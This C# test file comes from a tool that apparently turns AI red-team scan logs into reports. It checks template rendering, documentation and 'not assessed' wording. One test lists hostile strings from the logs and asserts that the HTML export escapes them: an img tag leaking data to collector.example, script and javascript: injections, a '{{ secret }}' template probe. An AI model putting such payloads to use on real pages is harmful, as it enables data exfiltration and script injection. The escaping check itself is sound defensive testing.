using Daybook.Documents;
using Daybook.Export;
using Daybook.RedTeam;
using Daybook.Tests.RedTeam.Samples;

namespace Daybook.Tests.RedTeam.Templates;

public sealed class BuiltInTemplatesTests(SampleFolder samples) : IClassFixture<SampleFolder>
{
    public static TheoryData<string> Ids => [.. BuiltInTemplates.All.Select(template => template.Id)];

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(Ids))]
    public void A_built_in_template_reads_without_any_remark(string id)
    {
        var template = BuiltInTemplates.Find(id)!;
        var result = new BuiltInReport(template).Read();

        Assert.Empty(result.Diagnostics);
        Assert.Equal((template.Id, template.Name), (result.Template!.Metadata.Id, result.Template.Metadata.Name));
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public void The_reference_page_names_a_built_in_template_and_its_parameters(string id)
    {
        string[] shared = ["logs", "scan_zone", "shift_name", "operator", "sample", "ai_analysis"];
        var row = Assert.Single(Repository.Read("docs/reference/built-in-templates.md").Split('\n'), line => line.StartsWith($"| `{id}` |", StringComparison.Ordinal));

        var own = new BuiltInReport(BuiltInTemplates.Find(id)!).Read().Template!.Parameters.Select(parameter => parameter.Name).Except(shared);
        Assert.Equal(string.Join(", ", own.Select(name => $"`{name}`")), row.Split('|')[^2].Trim());
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task A_built_in_template_renders_fully_from_the_samples(string id)
    {
        var report = await new BuiltInReport(BuiltInTemplates.Find(id)!).ComposeAsync(
            samples.Folder, SampleFolder.BusinessDate, Cancellation, ("sample", "true"), ("shift_name", "\"Day Shift - Americas\""), ("operator", "\"R. Sample\""));

        Assert.Equal(ReportStatus.Completed, report.Document.Metadata.Status);
        Assert.DoesNotContain(Sections(report.Document.Sections), section => section.Status != SectionStatus.Ok);
        Golden.Matches(await BuiltInReport.ExportAsync(Exporters.Find("markdown")!, report, Cancellation), $"{id}.sample.md");
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task A_built_in_template_asks_the_default_model_with_the_figures_of_the_samples(string id)
    {
        var question = Assert.Single(await new BuiltInReport(BuiltInTemplates.Find(id)!).AnalysesAsync(samples.Folder, SampleFolder.BusinessDate, Cancellation));
        Assert.Equal(("default", 0), (question.Model, question.CutCharacters));
        Golden.Matches(question.Prompt + "\n", $"{id}.prompt.txt");
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task Without_any_log_a_built_in_template_says_that_nothing_was_assessed(string id)
    {
        var folder = Directory.CreateTempSubdirectory("daybook-empty-");
        try
        {
            await NotAssessed(id, folder.FullName, "empty");
        }
        finally
        {
            folder.Delete();
        }
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task From_a_log_without_a_single_score_a_built_in_template_says_that_nothing_was_assessed(string id)
    {
        var folder = Directory.CreateTempSubdirectory("daybook-truncated-");
        try
        {
            const string name = "garak.ledger-copilot.2026-05-04.report.jsonl";
            var lines = await File.ReadAllLinesAsync(Path.Combine(samples.Folder, name), Cancellation);
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, name), string.Join('\n', lines[..5]) + "\n" + lines[5][..100], Cancellation);
            await NotAssessed(id, folder.FullName, "truncated");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Fact]
    public async Task Hostile_texts_of_the_logs_are_shown_as_text()
    {
        var report = await new BuiltInReport(BuiltInTemplates.StandardSecurityCob).ComposeAsync(samples.Folder, SampleFolder.BusinessDate, Cancellation);
        var html = await BuiltInReport.ExportAsync(Exporters.Find("html")!, report, Cancellation);

        Assert.Contains("&lt;img src=//collector.example/?leak", html);
        Assert.Contains("{{ secret }}", html);
        Assert.DoesNotContain("<img src=//collector", html);
        Assert.DoesNotContain("<script>alert", html);
        Assert.DoesNotContain("href=\"javascript:", html);
        Assert.DoesNotContain("src=\"https://collector.example", html);
        Assert.DoesNotContain("sk-sample", html);
        Assert.DoesNotContain("pat.keeper@", html);
    }

    private static async Task NotAssessed(string id, string folder, string golden)
    {
        var report = await new BuiltInReport(BuiltInTemplates.Find(id)!).ComposeAsync(folder, SampleFolder.BusinessDate, Cancellation);
        var text = await BuiltInReport.ExportAsync(Exporters.Find("markdown")!, report, Cancellation);

        Assert.Equal(ReportStatus.Completed, report.Document.Metadata.Status);
        Assert.Contains("Not assessed: no scored tests in the period", text);
        // The names of requirements hold words that would be verdicts elsewhere; their own says "not tested".
        var verdicts = string.Join('\n', text.Split('\n').Where(line => !line.Contains("| not tested |", StringComparison.Ordinal)));
        foreach (var verdict in new[] { " secure", " safe ", "compliant", "operational", "0.0%", "100.0%" })
            Assert.DoesNotContain(verdict, verdicts, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("None", text, StringComparison.Ordinal);
        Golden.Matches(text, $"{id}.{golden}.md");
    }

    private static IEnumerable<Section> Sections(IEnumerable<DocumentBlock> blocks) =>
        blocks.OfType<Section>().SelectMany(section => Sections(section.Blocks).Prepend(section));
}
